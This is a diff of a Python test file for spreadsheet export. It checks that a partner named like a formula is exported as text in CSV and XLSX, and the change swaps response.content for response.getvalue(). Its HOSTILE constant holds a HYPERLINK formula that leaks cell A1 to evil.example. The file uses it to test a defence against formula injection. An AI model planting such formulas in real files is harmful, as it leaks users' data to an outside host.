@@ -16,7 +16,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
 
 def _csv_rows(response) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
 
 
 def test_a_partner_named_like_a_formula_is_exported_as_text_in_csv(client_for, sales_user):
@@ -36,7 +36,7 @@ def test_a_partner_named_like_a_formula_is_exported_as_text_in_xlsx(client_for, 
     PartnerFactory(name=HOSTILE)
     response = client_for(sales_user).get(EXPORT, {"format": "xlsx"})
     assert response.status_code == 200
-    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
     header = [cell.value for cell in sheet[1]]
     name_cell = sheet.cell(row=2, column=header.index("Name") + 1)
     assert name_cell.data_type == "s"
